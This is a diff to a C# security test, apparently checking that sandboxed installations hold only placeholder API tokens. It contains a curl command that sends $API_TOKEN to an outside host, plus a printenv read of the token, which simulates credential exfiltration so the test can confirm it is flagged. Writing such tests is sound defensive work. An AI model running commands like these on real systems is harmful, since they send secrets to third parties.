@@ -69,9 +69,9 @@ public sealed class NothingToStealTests(SharedInstallation shared)
         one.ShouldNotBe(installation.Keys.Anthropic);
         two.ShouldNotBe(one);
 
-        var elsewhere = await ExecAsync("p-one", "curl -sS -m 20 -H \"x-api-key: $API_TOKEN\" https://example.org/docs/start");
+        var elsewhere = await ExecAsync("p-one", "curl -sS -m 20 -H \"x-api-key: $API_TOKEN\" https://example.org/docs/for-p-one");
         elsewhere.ShouldContain("placeholder_misuse");
-        installation.Vendors.Seen.ShouldNotContain(request => request.Host == "example.org" && request.KeyFingerprint != "none");
+        installation.Vendors.Seen.ShouldNotContain(request => request.Path == "/docs/for-p-one");
 
         async Task<string> PrintAsync(string name) => (await ExecAsync(name, "printenv API_TOKEN")).Trim();
 
